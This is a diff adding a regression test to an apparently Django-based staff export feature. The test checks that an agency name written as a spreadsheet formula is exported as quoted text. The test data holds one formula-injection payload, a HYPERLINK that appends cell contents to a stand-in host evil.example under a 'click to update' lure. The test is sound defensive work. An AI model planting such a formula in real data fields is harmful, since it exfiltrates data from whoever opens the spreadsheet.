@@ -204,3 +204,23 @@ def test_export_columns_and_rows(agencies: dict[str, Any], upload_roster: Any, h
     assert lines[1][1] == "    UBND phường Cẩm Thượng"  # indented under its parent
     assert lines[-1][1] == "Tổng cộng" and lines[-1][2] == 4  # children are not counted twice
     assert "17/08/2021" in sheet["A4"].value
+
+
+def test_an_agency_named_like_a_formula_is_exported_as_text(
+    agencies: dict[str, Any], upload_roster: Any, head: Any, login: Any
+) -> None:
+    """Finding 12: '=HYPERLINK(…)' in an agency name became a live formula in the export."""
+    from covidhub.adoption.models import Agency
+
+    evil = '=HYPERLINK("http://evil.example/?d="&C6,"Bấm để cập nhật")'
+    Agency.objects.filter(pk=agencies["district"].pk).update(name=evil)
+    upload_roster(agencies["ward"], [staff_row(n) for n in range(1, 5)])
+    response = login(head).get("/staff/adoption/export.xlsx")
+    assert response.status_code == 200
+    sheet: Any = load_workbook(io.BytesIO(response.content)).active
+    cell = sheet.cell(row=HEADER_ROW + 1, column=2)
+    assert cell.value == evil
+    assert cell.data_type == "s"  # a string, not a formula ("f")
+    assert cell.quotePrefix
+    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
